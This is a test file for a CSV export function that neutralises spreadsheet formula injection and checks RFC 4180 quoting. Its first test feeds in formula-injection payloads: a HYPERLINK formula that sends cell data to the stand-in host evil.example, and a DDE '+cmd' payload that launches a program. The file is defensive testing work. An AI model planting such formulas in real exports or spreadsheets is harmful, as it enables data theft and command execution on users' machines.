// The CSV behind every widget's "Download CSV": text that a spreadsheet would
// run as a formula is neutralised, numbers stay numbers, quoting is RFC 4180.
import { expect } from 'chai';
import { spreadsheetCsv } from '../../widgets/base/format.ts';

describe('spreadsheetCsv', () => {
  it("prefixes a ' to text cells that start with =, +, -, @, a tab or a carriage return", () => {
    const csv = spreadsheetCsv([
      ['Target', 'Bursts'],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', 3],
      ["+cmd|' /C calc'!A0", 2],
      ['@SUM(A1:A9)', 1],
      ['-2+3', 4],
      ['\t=1+1', 5],
      ['\r=1+1', 6],
    ]);
    expect(csv).to.equal(
      [
        'Target,Bursts',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",3`,
        `'+cmd|' /C calc'!A0,2`,
        `'@SUM(A1:A9),1`,
        `'-2+3,4`,
        `'\t=1+1,5`,
        `"'\r=1+1",6`,
        '',
      ].join('\r\n'),
    );
  });

  it('writes numbers as numbers (a negative one too), and text that looks like one as text', () => {
    expect(spreadsheetCsv([['Period', 'Change', 'Note'], ['2026-11-28', -5, '-5'], ['2026-11-29', 0.25, '+12%']])).to.equal(
      "Period,Change,Note\r\n2026-11-28,-5,'-5\r\n2026-11-29,0.25,'+12%\r\n",
    );
  });

  it('leaves other text alone, quoting only where RFC 4180 needs it', () => {
    expect(spreadsheetCsv([['button#save', 'a, "quoted" name', 'two\nlines', '< 5', 'a=b', ' padded ']])).to.equal(
      'button#save,"a, ""quoted"" name","two\nlines",< 5,a=b," padded "\r\n',
    );
  });
});
